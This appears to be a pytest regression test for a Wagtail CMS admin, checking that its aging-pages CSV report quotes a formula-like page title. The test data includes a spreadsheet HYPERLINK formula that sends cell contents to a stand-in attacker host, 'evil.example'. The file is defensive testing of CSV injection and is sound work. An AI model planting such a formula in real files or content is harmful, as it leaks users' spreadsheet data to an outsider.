"""Finding 9, Wagtail side: the admin's CSV reports quote an editor's formula-like page title."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from cms.demo import ensure_home, ensure_news_index
from tests.factories import UserFactory
from tests.i18n import speak

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Tin mới")'


def test_the_aging_pages_csv_quotes_a_formula_title():
    home = ensure_home()
    for title, slug in ((HYPERLINK, "tin-doc"), ("Tin tức OCOP", "tin-tuc-ocop")):
        ensure_news_index(home, title=title, slug=slug).save_revision().publish()
    staff = speak(Client(), "en")
    staff.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = staff.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    titles = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert "'" + HYPERLINK in titles
    assert "Tin tức OCOP" in titles  # an ordinary title, unchanged
